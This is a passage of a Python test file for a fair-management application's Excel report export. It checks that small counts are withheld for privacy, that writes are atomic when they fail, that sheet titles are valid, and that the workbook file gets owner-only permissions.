    headers, rows = table(wb["Por jornada"], "Fecha")
    days = {r[0].value.date(): r for r in rows if r[0].value != "Total"}
    col = {h: i for i, h in enumerate(headers)}
    assert days[dt.date(2026, 3, 1)][col["Cerrada"]].value == "Sí"
    assert days[dt.date(2026, 3, 8)][col["Cerrada"]].value == "No"
    assert days[dt.date(2026, 3, 8)][col["Visitantes"]].value is None  # no estimate: blank
    assert days[dt.date(2026, 3, 1)][col["Visitantes"]].value == 300
    for day in days.values():
        for name in ("Expositores presentes", "Ventas", "Cuotas debidas"):
            assert day[col[name]].value in (WITHHELD, 0), name
    assert rows[-1][col["Expositores presentes"]].value == j["vendors"]["attendances"] == 3

    _headers, rows = table(wb["Regiones"], "Región")
    assert {r[0].value: r[1].value for r in rows} == {"Otras 2 regiones": 2, "Total": 2}
    _headers, rows = table(wb["Por rubro"], "Rubro")
    assert [(r[0].value, r[1].value, r[3].value) for r in rows] == [
        ("Otros 2 rubros", 2, WITHHELD),
        ("Total", 2, WITHHELD),
    ]
    texts = all_text(wb)
    for kind, values in personal_data(session, complete=False).items():
        assert not {v for v in values for t in texts if v in t}, kind


def test_a_fair_of_six_shows_its_figures(session, hand_data, tmp_path):
    """Add four vendors to Norte's 01/03: the day's figures rest on six people and appear."""
    march = (dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    day = fairs.find_fair_day(session, hand_data["norte"], dt.date(2026, 3, 1))
    fairs.reopen_fair_day(session, SYSTEM, day.id, reason="más ventas")
    for n in range(4):
        vendor = vendors.register(
            session, SYSTEM,
            {"given_names": f"Nuevo{n}", "surnames": "Prueba", "doc_number": f"4100000{n}",
             "fair": hand_data["norte"], "registered_on": dt.date(2026, 1, 10),
             "sex": "F" if n < 2 else "M", "birth_date": dt.date(1980, 1, 1),
             "main_category": "Gastronomía"},
            today=dt.date(2026, 3, 8),
        )  # fmt: skip
        sales.record_sale(session, SYSTEM, day.id, vendor.id, f"{10 + n}")
    session.commit()
    path = tmp_path / "norte.xlsx"
    excel.write_workbook(session, *march, path, fair_id=hand_data["norte"], now=NOW)
    s = stats.compute(session, *march, hand_data["norte"])
    wb = openpyxl.load_workbook(path)
    k = kpis(wb["Resumen"])
    assert dec(k["Ventas totales"].value) == Decimal(s.to_json()["sales"]["total"])
    assert k["Mujeres presentes"].value == s.vendors.by_sex["F"] == 3
    assert k["Jóvenes presentes (15–29 años)"].value == WITHHELD  # Ana alone
    headers, rows = table(wb["Por jornada"], "Fecha")
    days = {r[0].value.date(): r for r in rows if r[0].value != "Total"}
    first, second = days[dt.date(2026, 3, 1)], days[dt.date(2026, 3, 8)]
    # the 08/03 (Ana alone) is withheld, and the 01/03 with it, as the total gives it back
    for name in ("Expositores presentes", "Ventas"):
        assert second[headers.index(name)].value == WITHHELD
        assert first[headers.index(name)].value == WITHHELD
    total = rows[-1]
    assert total[headers.index("Expositores presentes")].value == s.vendors.attendances == 7
    assert dec(total[headers.index("Ventas")].value) == Decimal(s.to_json()["sales"]["total"])
    # no chart of sales per day that would draw the withheld days as days without sales;
    # the chart by rubro starts its axis at zero
    (chart,) = charts_in(path)
    xml = read_xml(path, chart)
    assert "'Por rubro'!" in xml and '<min val="0"' in xml


# ------------------------------------------------------------------ progress, failures


def test_progress_is_reported_up_to_the_total(demo_session, tmp_path):
    calls = []
    excel.write_workbook(
        demo_session, *YEAR, tmp_path / "p.xlsx", progress=lambda d, t: calls.append((d, t))
    )
    assert calls == [(n, 6) for n in range(1, 7)]


def test_missing_folder_raises_and_writes_nothing(demo_session, tmp_path):
    target = tmp_path / "no-existe" / "resumen.xlsx"
    with pytest.raises(FileNotFoundError):
        excel.write_workbook(demo_session, *YEAR, target)
    assert not target.parent.exists()


def test_failure_midway_keeps_the_old_file_and_leaves_no_temporary_file(demo_session, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "resumen.xlsx"
    target.write_bytes(b"the previous workbook")

    def fail(done: int, total: int) -> None:
        if done >= 3:
            raise RuntimeError("the user cancelled")

    with pytest.raises(RuntimeError, match="cancelled"):
        excel.write_workbook(demo_session, *YEAR, target, progress=fail)
    assert target.read_bytes() == b"the previous workbook"
    assert [p.name for p in folder.iterdir()] == ["resumen.xlsx"]
    # nor the sheets' streams openpyxl keeps in the temporary folder
    assert [p for p in ALL_TEMP_FILES if Path(p).exists()] == []


def test_period_backwards_or_unknown_fair_is_refused(demo_session, tmp_path):
    target = tmp_path / "x.xlsx"
    with pytest.raises(OperationError, match="posterior"):
        excel.write_workbook(demo_session, YEAR[1], YEAR[0], target)
    with pytest.raises(NotFoundError):
        excel.write_workbook(demo_session, *YEAR, target, fair_id=999)
    assert list(tmp_path.glob("*.xlsx*")) == []


def test_sheet_titles_are_valid_and_unique():
    from agroferia.reports.workbook.sheet import sheet_title

    assert sheet_title("Ventas: enero/febrero [2026]?", []) == "Ventas- enero-febrero -2026--"
    assert len(sheet_title("x" * 40, [])) == 31
    assert sheet_title("Resumen", ["resumen"]) == "Resumen 2"


def test_no_line_of_the_summary_is_wider_than_its_tables(book):
    """Long notes wrap within the tables' width (a long line would stretch the page)."""
    for ws in book.wb.worksheets:
        merged = {str(r) for r in ws.merged_cells.ranges}
        for (cell,) in ws.iter_rows(min_col=1, max_col=1):
            if isinstance(cell.value, str) and len(cell.value) > 100:
                assert any(re.match(rf"A{cell.row}:[A-Z]+{cell.row}$", m) for m in merged), (
                    ws.title,
                    cell.coordinate,
                )
                assert cell.alignment.wrap_text


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_the_workbook_is_its_owners_only(session, tmp_path):
    """Whatever the umask, the workbook (written beside the target, then renamed) is 0600."""
    umask = os.umask(0o022)
    try:
        target = tmp_path / "compartido.xlsx"
        excel.write_workbook(session, *YEAR, target)
    finally:
        os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
